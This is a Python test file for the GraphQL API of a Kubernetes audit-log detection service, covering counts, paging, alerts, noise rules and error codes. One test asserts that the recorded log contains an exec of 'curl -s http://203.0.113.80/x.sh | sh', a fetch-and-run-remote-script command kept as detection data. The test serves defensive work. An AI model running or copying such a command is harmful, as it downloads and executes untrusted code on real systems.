"""GraphQL: the contract's names, its limits, and what an error may tell."""

import asyncio
import gzip
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from graphsvc.api.context import Context
from graphsvc.api.cursor import place_cursor
from graphsvc.api.limits import Limits
from graphsvc.api.noise import NoiseRules
from graphsvc.api.schema import build_schema
from graphsvc.detection.definition import load_detections
from graphsvc.detection.engine import Engine
from graphsvc.detection.own import Fault
from graphsvc.detection.silence import SILENT
from graphsvc.domain import crowd
from graphsvc.domain.noise import noise_filter
from graphsvc.domain.problem import Problem
from graphsvc.domain.viewer import Role, Viewer
from graphsvc.graph.read import alerts as read_alerts
from graphsvc.graph.read.acts import ActReader
from graphsvc.graph.read.alerts import AlertPlace, AlertReader
from graphsvc.graph.read.coverage import CoverageReader
from graphsvc.graph.read.picture import PictureReader
from graphsvc.graph.read.reader import Reader
from graphsvc.graph.read.receipts import ReceiptReader
from graphsvc.graph.read.rejected import RejectedPlace, RejectedReader
from graphsvc.graph.read.stories import StoryReader
from graphsvc.graph.write.detection_states import load_states
from graphsvc.graph.write.renewal import empty
from graphsvc.ingest.archive.archive import Archive
from graphsvc.ingest.archive.dropped import DroppedReader
from graphsvc.ingest.archive.segment import read_record
from graphsvc.ingest.noise_rules import load_noise_rules
from graphsvc.ingest.record.record import read_records
from tests.builders import a_pipeline, an_event, ingest

RULES = load_noise_rules()
LOG = Path(__file__).parents[2] / "demo" / "modern.log.gz"


@pytest.fixture(scope="module")
def ask(session_store, tmp_path_factory):
    """Ask a question of the recorded cluster."""
    empty(session_store)
    folder = tmp_path_factory.mktemp("archive")
    archive = Archive(folder)
    with gzip.open(LOG) as stream:
        a_pipeline(session_store, archive=archive).ingest(read_records(stream), cluster="rec", name="log")
    archive.close()
    reader, detections = Reader(session_store), load_detections()
    Engine(session_store, reader, detections).run_waiting()
    alerts = AlertReader(session_store, reader)
    context = Context(
        viewer=Viewer("local", "me", Role.ADMIN),
        looked_at=lambda _call: None,
        acts=ActReader(session_store),
        reader=reader,
        alerts=alerts,
        stories=StoryReader(session_store, alerts),
        pictures=PictureReader(reader, alerts),
        detections=lambda: detections,
        faults=lambda: (Fault(Path("mine/broken.cypher"), 3, "it has no condition"),),
        definitions=lambda: {d.slug: d for d in (*detections, SILENT)},
        states=lambda: load_states(session_store),
        noise=NoiseRules(RULES, frozenset(r.name for r in RULES if r.name != "leases")),
        raw_event=lambda place: json.loads(read_record(folder, place).raw),
        rejected=RejectedReader(session_store),
        dropped=DroppedReader(folder, noise_filter(RULES)),
        problems=lambda: [Problem("neo4j", "is away")],
        receipts=ReceiptReader(session_store),
        coverage=CoverageReader(session_store),
    )

    def question(query, schema=None, **variables):
        run = (schema or build_schema()).execute(query, variable_values=variables, context_value=context)
        return asyncio.run(run)

    return question


def data(answer):
    assert answer.errors is None, answer.errors
    return answer.data


POLYGRAPH = """
query ($search: String! = "", $top: Int! = 15, $group: Boolean! = true) {
  polygraph(search: $search, top: $top, group: $group) {
    calls errors truncated
    columns { name key total absent nodes { id name calls errors members commands expandable alerts firstSeen } }
    hops { source target calls errors }
    paths { id cluster user action status calls }
  }
}"""


@pytest.mark.parametrize(("top", "group"), [(0, False), (15, True), (5, False), (1, True)])
@pytest.mark.parametrize("search", ["", "exec", "amira", "-pods"])
def test_counts_add_up_column_by_column(ask, search, top, group):
    found = data(ask(POLYGRAPH, search=search, top=top, group=group, schema=build_schema(Limits(cost=10**9))))[
        "polygraph"
    ]
    columns = found["columns"]
    assert [c["name"] for c in columns] == [
        "Source IP", "Group", "AWS user", "Kubernetes user", "Impersonated user", "Resource", "Action", "Status",
    ]  # fmt: skip
    ids = {n["id"]: number for number, c in enumerate(columns) for n in c["nodes"]}
    for column in columns:
        assert sum(n["calls"] for n in column["nodes"]) + column["absent"] == found["calls"]
    for border in range(7):
        crossing = [h for h in found["hops"] if ids[h["source"]] <= border < ids[h["target"]]]
        assert sum(h["calls"] for h in crossing) == found["calls"]
    assert sum(p["calls"] for p in found["paths"]) == found["calls"]


def test_the_complete_graph_has_no_groups(ask):
    found = data(ask(POLYGRAPH, top=0, group=False))["polygraph"]
    assert not any(n["expandable"] for c in found["columns"] for n in c["nodes"])
    assert all(len(c["nodes"]) == c["total"] for c in found["columns"])


def test_exec_shows_its_commands_and_groups_their_members(ask):
    found = data(ask(POLYGRAPH, search="exec"))["polygraph"]
    nodes = {n["id"]: n for c in found["columns"] for n in c["nodes"]}
    assert any("curl -s http://203.0.113.80/x.sh | sh" in line for line in nodes["action:exec"]["commands"])
    assert nodes["status:101 Switching Protocols"]["commands"] == nodes["action:exec"]["commands"]
    assert nodes["group:dev, orders"]["members"] == ["dev", "orders"]


CALLS = """
query ($search: String! = "", $first: Int! = 100, $after: String, $errorsOnly: Boolean! = false) {
  apiCalls(search: $search, first: $first, after: $after, errorsOnly: $errorsOnly) {
    edges { cursor node { id time eventName action resource subresource code status command user alerts { code } } }
    pageInfo { hasNextPage endCursor } searchedBackTo
  }
}"""


def test_the_seeds_walk_through_the_table(ask):
    rows = [e["node"] for e in data(ask(CALLS, search="exec -role"))["apiCalls"]["edges"]]
    execs = [r for r in rows if r["subresource"] == "exec"]
    assert len(execs) == 9
    assert {(r["eventName"], r["resource"], r["code"]) for r in execs} == {("CreatePods", "pods", 101)}
    assert all(r["command"] for r in execs)
    roles = [e["node"]["eventName"] for e in data(ask(CALLS, search="exec role"))["apiCalls"]["edges"]]
    assert any(name.startswith("CreateClusterroles_WithPodExec") for name in roles)


def test_pages_join_without_gap_or_overlap(ask):
    seen, after = [], None
    while True:
        page = data(ask(CALLS, search="ben", first=37, after=after))["apiCalls"]
        seen += [e["node"]["id"] for e in page["edges"]]
        after = page["pageInfo"]["endCursor"]
        if not page["pageInfo"]["hasNextPage"]:
            break
    assert len(seen) == len(set(seen)) == data(ask(POLYGRAPH, search="ben"))["polygraph"]["calls"]


def test_alerts_of_calls_are_looked_for_only_when_they_are_asked_for(ask, monkeypatch):
    """The page's table does not ask for them."""
    asked = []
    monkeypatch.setattr(AlertReader, "of_calls", lambda _, calls: asked.append(calls) or {})
    assert data(ask("{ apiCalls(first: 3) { edges { node { id } } } }"))["apiCalls"]["edges"]
    assert not asked
    spread = "{ apiCalls(first: 3) { edges { node { ...Some } } } } fragment Some on ApiCall { known: alerts { id } }"
    assert data(ask(spread))["apiCalls"]["edges"]
    assert [len(calls) for calls in asked] == [3]


def test_error_events_are_the_calls_that_failed(ask):
    rows = data(ask(CALLS, errorsOnly=True, first=200))["apiCalls"]["edges"]
    assert rows
    assert all(r["node"]["code"] >= 400 for r in rows)


@pytest.mark.parametrize("stride", [1, 50])
def test_alerts_with_a_term_are_paged_whole_however_many_are_looked_at_at_a_time(ask, monkeypatch, stride):
    monkeypatch.setattr(read_alerts, "_STRIDE", stride)
    query = """query ($search: String! = "", $first: Int! = 200, $after: String) {
      alerts(search: $search, severity: [HIGH, CRITICAL], first: $first, after: $after) {
        edges { node { id who } } pageInfo { hasNextPage endCursor } } }"""
    every = [e["node"] for e in data(ask(query))["alerts"]["edges"]]
    found, after = [], None
    while True:
        page = data(ask(query, search="user:=amira@retail.example", first=1, after=after))["alerts"]
        found += [e["node"]["id"] for e in page["edges"]]
        after = page["pageInfo"]["endCursor"]
        if not page["pageInfo"]["hasNextPage"]:
            break
    assert found == [a["id"] for a in every if a["id"] in set(found)]
    assert {a["id"] for a in every if a["who"].startswith("amira@")} <= set(found)
    assert 1 < len(found) < len(every)


def test_a_call_has_its_whole_event(ask):
    id_ = data(ask(CALLS, search="exec -role curl action:=exec"))["apiCalls"]["edges"][0]["node"]["id"]
    found = data(ask("query ($id: ID!) { call(id: $id) { auditId event alerts { code } } }", id=id_))["call"]
    assert found["event"]["auditID"] == found["auditId"]
    assert "EX-14" in {a["code"] for a in found["alerts"]}
    assert data(ask('{ call(id: "nope") { id } }'))["call"] is None


def test_alerts_and_their_evidence(ask):
    found = data(
        ask("{ alerts(severity: [CRITICAL]) { edges { node { id code who status } } pageInfo { hasNextPage } } }")
    )["alerts"]
    assert {e["node"]["code"] for e in found["edges"]} == {"SE-03", "GR-01"}
    id_ = next(e["node"]["id"] for e in found["edges"] if e["node"]["code"] == "SE-03")
    query = "query ($id: ID!) { alert(id: $id) { why triage usual occurrences pathIds calls(first: 5) { id action } } }"
    alert = data(ask(query, id=id_))["alert"]
    assert alert["calls"][0]["action"] in {"ListSecrets", "WatchSecrets_FromStart"}
    assert alert["pathIds"]
    assert alert["why"]


def test_alert_pages_join(ask):
    query = """query ($after: String) { alerts(severity: [HIGH, CRITICAL], first: 7, after: $after) {
      edges { cursor node { id } } pageInfo { hasNextPage endCursor } } }"""
    seen, after = [], None
    while True:
        page = data(ask(query, after=after))["alerts"]
        seen += [e["node"]["id"] for e in page["edges"]]
        after = page["pageInfo"]["endCursor"]
        if not page["pageInfo"]["hasNextPage"]:
            break
    everything = data(ask("{ alerts(severity: [HIGH, CRITICAL], first: 200) { edges { node { id } } } }"))["alerts"][
        "edges"
    ]
    assert seen == [e["node"]["id"] for e in everything]


def test_detections_clusters_and_noise(ask):
    found = data(
        ask("{ detections(kind: [ANOMALY]) { code slug state alerts } clusters { name calls } noise { rule calls } }")
    )
    assert {"OR-05", "RB-05", "WL-15", "WL-28"} < {d["code"] for d in found["detections"]}
    assert {d["state"] for d in found["detections"]} == {"ok"}
    assert found["clusters"] == [{"name": "rec", "calls": 7666}]


def test_a_file_of_the_users_that_cannot_run_is_named(ask):
    found = data(ask('{ detections(search: "broken") { slug own state title } }'))["detections"]
    state = "broken.cypher, line 3: it has no condition"
    assert found == [{"slug": "broken", "own": True, "state": state, "title": "broken.cypher"}]


def test_a_receipt_says_from_when_to_when_the_log_is_whole(ask):
    query = """query ($from: DateTime, $clusters: [String!]) { receipts(from: $from, clusters: $clusters) {
      cluster state told from to heartbeats reportedLost neverEnded underWay holes latestHoles(first: 3) { from } } }"""
    (found,) = data(ask(query))["receipts"]
    assert found.pop("told").startswith("whole from 2026-11-23T12:56Z to 2026-11-23T13:03Z, by 5")
    assert found.pop("heartbeats") > 500
    assert found.pop("underWay") > 0
    assert found == {
        "cluster": "rec", "state": "WHOLE", "from": "2026-11-23T12:56:00+00:00", "to": "2026-11-23T13:03:00+00:00",
        "reportedLost": 0, "neverEnded": 0, "holes": 0, "latestHoles": [],
    }  # fmt: skip
    (later,) = data(ask(query, **{"from": "2026-11-24T00:00:00Z"}))["receipts"]
    assert (later["state"], later["from"]) == ("UNKNOWN", None)
    assert data(ask(query, clusters=["other"]))["receipts"] == []


def test_coverage_says_which_detections_the_log_can_feed(ask):
    query = """query ($state: [CoverageState!]) { coverage { cluster fed partly blind unknown
      detections(state: $state) { code state why } invisible { what } } }"""
    (found,) = data(ask(query))["coverage"]
    states = [d["state"].lower() for d in found["detections"]]
    assert {state: states.count(state) for state in ("fed", "partly", "blind", "unknown")} == {
        state: found[state] for state in ("fed", "partly", "blind", "unknown")
    }
    assert found["fed"] > 100
    assert "Static pods" in {one["what"] for one in found["invisible"]}
    (blind,) = data(ask(query, state=["BLIND"]))["coverage"]
    why = {d["code"]: d["why"] for d in blind["detections"]}
    assert why["SE-13"] == "secrets is logged without bodies, it needs level Request"


def test_a_call_tells_that_the_server_lost_its_event(ask):
    answer = data(ask("{ apiCalls(first: 1) { edges { node { reportedLost } } } }"))
    assert answer["apiCalls"]["edges"] == [{"node": {"reportedLost": False}}]


def test_what_a_rule_dropped_lately_can_be_looked_at(ask):
    query = '{ dropped(rule: "leases", first: 20) { cluster time user action resource name status text } }'
    found = data(ask(query))["dropped"]
    assert len(found) == 20
    for call in found:
        event = json.loads(call["text"])
        assert (call["cluster"], call["user"]) == ("rec", event["user"]["username"])
        assert call["name"] == event["objectRef"].get("name")
        assert event["objectRef"]["resource"] == "leases"
    assert data(ask('{ dropped(rule: "leases", clusters: ["other"]) { text } }'))["dropped"] == []
    assert data(ask('{ dropped(rule: "none") { text } }'))["dropped"] == []


def test_every_noise_rule_is_listed_with_its_switch(ask):
    query = """{ noiseRules {
      name title on fixed verbs resources notResources users notUsers succeeded notDenied } }"""
    found = {rule["name"]: rule for rule in data(ask(query))["noiseRules"]}
    assert list(found) == [*(r.name for r in RULES), "klog-lines", "foreign-categories", "older-than-kept"]
    assert [name for name, rule in found.items() if not rule["on"]] == ["leases"]
    assert [name for name, rule in found.items() if rule["fixed"]] == list(found)[-3:]
    assert all(rule["title"] != name for name, rule in found.items())
    assert found["metrics"] == {
        "name": "metrics",
        "title": "Metrics scraped from the API server",
        "on": True,
        "fixed": False,
        "verbs": ["get"],
        "resources": ["/metrics", "/metrics/…"],
        "notResources": [],
        "users": [],
        "notUsers": ["system:anonymous", ""],
        "succeeded": True,
        "notDenied": False,
    }


def test_noise_is_counted_over_time_in_steps(ask, session_store):
    times = ["00:05", "00:10", "00:50", "01:20", "02:00", "05:59"]
    events = [
        an_event(user="system:node:a", verb="update", ref={"resource": "leases"}, time=f"2026-11-20T{time}:00.000000Z")
        for time in times
    ]
    ingest(session_store, *events, cluster="noisy", rules=RULES)

    def over_time(step):
        query = """query ($step: Int!) { noise(clusters: ["noisy"]) {
          rule title calls overTime(step: $step) { start calls } } }"""
        (found,) = data(ask(query, step=step))["noise"]
        assert (found["rule"], found["calls"]) == ("leases", len(times) - 1), "the first call a day is kept"
        assert found["title"] == "Leases renewed and read by components"
        return [(hour["start"][:13], hour["calls"]) for hour in found["overTime"]]

    day = "2026-11-20T"
    assert over_time(1) == [(day + "00", 2), (day + "01", 1), (day + "02", 1), (day + "05", 1)]
    assert over_time(3) == [(day + "00", 4), (day + "03", 1)]
    assert over_time(24) == [(day + "00", 5)]
    assert codes(ask("{ noise { overTime(step: 0) { calls } } }")) == {"BAD_INPUT"}


CALLER = """query ($cluster: String!) { apiCalls(clusters: [$cluster], first: 1) { edges { node {
  time pod node userExtra impersonatedGroups impersonatedExtra truncated claimedTime folded } } } }"""


def caller(ask, cluster):
    (edge,) = data(ask(CALLER, cluster=cluster))["apiCalls"]["edges"]
    return edge["node"]


def test_a_call_tells_all_that_is_known_of_its_caller(ask, session_store):
    token = "authentication.kubernetes.io/"
    extra = {token + "pod-name": ["web-1"], token + "node-name": ["n1"], "scopes": ["a", "b"]}
    event = an_event(
        user={"username": "system:serviceaccount:shop:web", "extra": extra},
        impersonatedUser={"username": "x", "groups": ["ops"], "extra": {"reason": ["drill"]}},
        annotations={"audit.k8s.io/truncated": "true"},
        time="1999-12-31T23:59:59.000000Z",
    )
    ingest(session_store, event, cluster="telling")
    found = caller(ask, "telling")
    assert found.pop("time")[:2] == "20"
    assert found == {
        "pod": "web-1",
        "node": "n1",
        "userExtra": ["scopes=a", "scopes=b"],
        "impersonatedGroups": ["ops"],
        "impersonatedExtra": ["reason=drill"],
        "truncated": True,
        "claimedTime": "1999-12-31T23:59:59+00:00",
        "folded": [],
    }


def test_a_call_of_a_crowd_tells_what_its_path_does_not(ask, session_store, monkeypatch):
    monkeypatch.setattr(crowd, "REFUSED_PATHS", 0)
    ingest(session_store, an_event(user="made-up", code=403), cluster="crowded")
    found = caller(ask, "crowded")
    assert "namespace=shop" in found["folded"]
    assert (found["pod"], found["userExtra"], found["truncated"], found["claimedTime"]) == ("", [], False, None)


def test_rejected_records_are_listed(ask, session_store):
    ingest(session_store, {"auditID": "x"}, {"auditID": "y"}, an_event(), cluster="spoilt")
    question = '{ rejected(clusters: ["spoilt"], first: 1, skip: 1) { total records { cluster line reason raw } } }'
    page = data(ask(question))["rejected"]
    assert page["total"] == 2
    (record,) = page["records"]
    assert (record["cluster"], record["line"], json.loads(record["raw"])) == ("spoilt", 2, {"auditID": "y"})
    assert "missing required field" in record["reason"]
    assert data(ask('{ rejected(clusters: ["rec"]) { total } }'))["rejected"]["total"] == 0


REJECTED = """query ($first: Int!, $newest: Boolean!, $after: String) {
  rejected(clusters: ["early", "late"], first: $first, newestFirst: $newest, after: $after) {
    total records { cluster line written } pageInfo { hasNextPage endCursor } } }"""


def rejected_in_pages(ask, first, *, newest):
    after, records = None, []
    while True:
        page = data(ask(REJECTED, first=first, newest=newest, after=after))["rejected"]
        assert page["total"] == 6
        assert 0 < len(page["records"]) <= first
        records += page["records"]
        after = page["pageInfo"]["endCursor"]
        if not page["pageInfo"]["hasNextPage"]:
            return records


@pytest.mark.parametrize("first", [1, 2, 3, 4, 6, 7])
def test_pages_of_rejected_records_join_in_either_order(ask, session_store, first):
    for cluster in ("early", "late"):
        ingest(session_store, *({"auditID": f"{cluster} {n}"} for n in range(3)), cluster=cluster)
    early, late = ([(cluster, line) for line in (1, 2, 3)] for cluster in ("early", "late"))
    newest = rejected_in_pages(ask, first, newest=True)
    assert [(r["cluster"], r["line"]) for r in newest] == late + early
    assert [(r["cluster"], r["line"]) for r in rejected_in_pages(ask, first, newest=False)] == early + late
    times = [datetime.fromisoformat(r["written"]) for r in newest]
    assert times == sorted(times, reverse=True)
    assert abs(datetime.now(UTC) - times[0]) < timedelta(hours=1)


def test_a_page_of_rejected_records_continues_where_the_last_ended_whatever_came_meanwhile(ask, session_store):
    question = """query ($after: String) { rejected(clusters: ["busy"], first: 2, newestFirst: true, after: $after) {
      records { line } pageInfo { endCursor } } }"""
    ingest(session_store, *({"auditID": f"old {n}"} for n in range(4)), cluster="busy")
    before = data(ask(question))["rejected"]
    ingest(session_store, *({"auditID": f"new {n}"} for n in range(3)), cluster="busy")
    after = data(ask(question, after=before["pageInfo"]["endCursor"]))["rejected"]
    assert [r["line"] for r in before["records"] + after["records"]] == [1, 2, 3, 4]


def test_one_rejected_record_is_found_by_its_id(ask, session_store):
    ingest(session_store, {"auditID": "known by its id"}, cluster="one")
    fields = "{ id cluster source line reason raw written }"
    (listed,) = data(ask(f'{{ rejected(clusters: ["one"]) {{ records {fields} }} }}'))["rejected"]["records"]
    question = f"query ($id: ID!) {{ rejectedRecord(id: $id) {fields} }}"
    assert data(ask(question, id=listed["id"]))["rejectedRecord"] == listed
    assert data(ask(question, id="nobody's"))["rejectedRecord"] is None


def codes(answer):
    return {(e.extensions or {}).get("code") for e in answer.errors}


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ('{ polygraph(search: "(a") { calls } }', "BAD_SEARCH"),
        ("{ apiCalls(first: 50000) { edges { cursor } } }", "TOO_COSTLY"),
        ("{ apiCalls(first: 300) { edges { cursor } } }", "BAD_INPUT"),
        ('{ apiCalls(after: "nonsense") { edges { cursor } } }', "BAD_CURSOR"),
        ('{ alerts(after: "nonsense") { edges { cursor } } }', "BAD_CURSOR"),
        ('{ rejected(after: "nonsense") { total } }', "BAD_CURSOR"),
        (
            f'{{ alerts(after: "{place_cursor(RejectedPlace(1, "c", "s", 1, "x"))}") {{ edges {{ cursor }} }} }}',
            "BAD_CURSOR",
        ),
        (f'{{ rejected(after: "{place_cursor(AlertPlace(1, "x"))}") {{ total }} }}', "BAD_CURSOR"),
        (
            f'{{ rejected(after: "{place_cursor(RejectedPlace(1 << 63, "c", "s", 1, "x"))}") {{ total }} }}',
            "BAD_CURSOR",
        ),
        ("{ nothing }", "BAD_QUERY"),
        ("{ " + " ".join(f"a{n}: clusters {{ name }}" for n in range(20)) + " }", "BAD_QUERY"),
        ("{ " + "clusters { name } " * 400 + "}", "BAD_QUERY"),
    ],
)
def test_what_is_refused_has_a_code(ask, query, code):
    assert codes(ask(query)) == {code}


def test_depth_is_limited(ask):
    answer = ask("{ alerts { edges { node { id } } } }", schema=build_schema(Limits(depth=2)))
    assert codes(answer) == {"BAD_QUERY"}


def test_costly_through_fragments_too(ask):
    query = "{ ...f } fragment f on Query { apiCalls(first: 200) { edges { node { id alerts { id code title } } } } }"
    assert codes(ask(query, schema=build_schema(Limits(cost=1_000)))) == {"TOO_COSTLY"}


def test_fragments_that_spread_each_other_are_priced_quickly(ask):
    """Thirty doublings: priced one by one they would be a thousand million fields."""
    parts = " ".join(f"fragment f{n} on Query {{ ...f{n + 1} ...f{n + 1} }}" for n in range(30))
    query = f"{{ ...f0 }} {parts} fragment f30 on Query {{ clusters {{ name }} }}"
    assert codes(ask(query)) <= {"TOO_COSTLY", "BAD_QUERY"}


def test_a_broken_search_tells_where(ask):
    (error,) = ask('{ polygraph(search: "a (b") { calls } }').errors
    assert error.extensions == {"code": "BAD_SEARCH", "position": 2}


def test_what_goes_wrong_inside_is_masked(ask, monkeypatch):
    def fail(*_):
        raise RuntimeError("bolt://user:password@10.0.0.1")

    monkeypatch.setattr(Reader, "clusters", fail)
    (error,) = ask("{ clusters { name } }").errors
    assert "password" not in str(error)
    assert error.extensions["code"] == "INTERNAL"


def test_everything_is_described():
    missing = [
        f"{name}.{field}"
        for name, kind in build_schema()._schema.type_map.items()
        if not name.startswith("__") and hasattr(kind, "fields")
        for field, value in kind.fields.items()
        if not value.description
    ]
    assert missing == []


def test_what_is_wrong_is_told(ask):
    assert ask("{ problems { subject text } }").data == {"problems": [{"subject": "neo4j", "text": "is away"}]}


def test_stories_tell_their_alerts_worst_first_and_join_page_by_page(ask):
    told = "id risk sentence severity who clusters firstSeen lastSeen alerts { id risk thing succeeded }"
    asked = f"edges {{ node {{ {told} }} }} total complete pageInfo {{ hasNextPage endCursor }}"
    query = f"query($after: String, $first: Int!) {{ stories(first: $first, after: $after) {{ {asked} }} }}"

    def page_of(**values):
        page = data(ask(query, **values))["stories"]
        return {**page, "stories": [edge["node"] for edge in page["edges"]]}

    whole = page_of(first=50)
    assert whole["complete"]
    assert [s["risk"] for s in whole["stories"]] == sorted((s["risk"] for s in whole["stories"]), reverse=True)
    assert all(s["sentence"].startswith(s["who"][0]) and s["alerts"] for s in whole["stories"])
    joined, after = [], None
    while True:
        page = page_of(first=3, after=after)
        joined += page["stories"]
        if not page["pageInfo"]["hasNextPage"]:
            break
        after = page["pageInfo"]["endCursor"]
    assert [s["id"] for s in joined][: len(whole["stories"])] == [s["id"] for s in whole["stories"]]
    assert len(joined) == whole["total"]


def test_an_alert_tells_addresses_clients_and_objects_and_its_calls_in_order(ask):
    first = data(ask("{ alerts(first: 1) { edges { node { id } } } }"))["alerts"]["edges"][0]["node"]["id"]
    facet = "{ name calls firstSeen lastSeen }"
    asked = f"occurrences calls(first: 100) {{ time }} facets {{ addresses {facet} objects {facet} }}"
    alert = data(ask(f"query($id: ID!) {{ alert(id: $id) {{ {asked} }} }}", id=first))["alert"]
    times = [call["time"] for call in alert["calls"]]
    assert times == sorted(times)
    assert sum(f["calls"] for f in alert["facets"]["addresses"]) == alert["occurrences"]
    assert all(f["firstSeen"] <= f["lastSeen"] for f in alert["facets"]["objects"])
